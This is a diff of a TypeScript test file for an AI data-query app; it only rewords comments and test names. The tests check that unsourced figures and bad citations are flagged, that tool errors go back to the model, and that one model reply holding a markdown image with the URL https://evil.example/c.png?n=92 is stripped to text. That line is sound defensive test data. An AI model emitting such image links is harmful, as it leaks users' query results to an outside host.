@@ -8,7 +8,7 @@ import { openConfiguredApp } from '../../src/app/setup.ts'
 import { NOTHING_TO_REMEMBER } from '../e2e/support.ts'
 import { startModelServer, toolCall, type ModelServer, type Reply } from '../support/model-server.ts'
 
-/** What a weak model does wrong is told to it, or stands beside the answer; its text stays as it wrote it. */
+/** A weak model gets its errors back, or they are reported beside the answer. Its text stays unchanged. */
 
 const COUNT = toolCall('query', { sql: 'SELECT count(*) AS customers FROM customers' })
 
@@ -26,7 +26,7 @@ afterAll(async () => {
 })
 afterEach(() => app.close())
 
-/** Asks a model that gives these replies, one a turn. */
+/** Asks a model with these replies, one per turn. */
 async function ask(...replies: readonly Reply[]) {
   server.script([NOTHING_TO_REMEMBER, ...replies.map((reply) => ({ times: 1, reply }))])
   app = await openConfiguredApp({
@@ -39,7 +39,7 @@ async function ask(...replies: readonly Reply[]) {
   return { answer, status, rows: data?.rows, told: notices.map(({ text }) => text) }
 }
 
-it('a figure that nothing returned is named beside the answer', async () => {
+it('a figure without a source is named next to the answer', async () => {
   const response = await ask(COUNT, { text: 'There are 92 customers [s1]. Of these, 4,217 are active.' })
   expect(response).toEqual({
     answer: 'There are 92 customers [1]. Of these, 4,217 are active.',
@@ -49,18 +49,18 @@ it('a figure that nothing returned is named beside the answer', async () => {
   })
 })
 
-it('a citation of a source that there is not is named beside the answer', async () => {
+it('a citation of a missing source is named next to the answer', async () => {
   const response = await ask(COUNT, { text: 'There are 92 customers [s9].' })
   expect(response.answer).toBe('There are 92 customers.')
   expect(response.told).toEqual(['A citation was removed, because it named no source that was found: s9.'])
 })
 
-it('a figure without any query is named beside the answer', async () => {
+it('a figure without any query is named next to the answer', async () => {
   const { told } = await ask({ text: 'You have 4,217 customers.' })
   expect(told).toContain('Figures that are in no source: 4,217.')
 })
 
-it('an image that would send the answer away is reduced to its text', async () => {
+it('an image that would leak the answer is reduced to its text', async () => {
   const { answer } = await ask(COUNT, {
     text: 'There are 92 customers [s1]. ![chart](https://evil.example/c.png?n=92)',
   })
@@ -71,13 +71,13 @@ it.each([
   ['a table that there is not', toolCall('query', { sql: 'SELECT count(*) FROM clients' }), /clients/],
   ['a tool that there is not', toolCall('run_sql', { sql: 'SELECT 1' }), /There is no tool "run_sql"/],
   ['a field that there is not', toolCall('query', { statement: 'SELECT 1' }), /there is no field statement/],
-])('%s is told to the model, which corrects it', async (_what, wrong, error) => {
+])('%s is reported to the model, which corrects it', async (_what, wrong, error) => {
   const response = await ask(wrong, COUNT, { text: 'There are 92 customers [s1].' })
   expect(response).toMatchObject({ status: 'answered', rows: [{ customers: 92 }] })
   expect(server.requests.flatMap(({ messages }) => messages.map(({ text }) => text)).join('\n')).toMatch(error)
 })
 
-it('a call that is written as text is made', async () => {
+it('a call written as text is made', async () => {
   const call = '{"name": "query", "arguments": {"sql": "SELECT count(*) AS customers FROM customers"}}'
   const response = await ask(
     { text: `Let me look.\n<tool_call>${call}</tool_call>` },
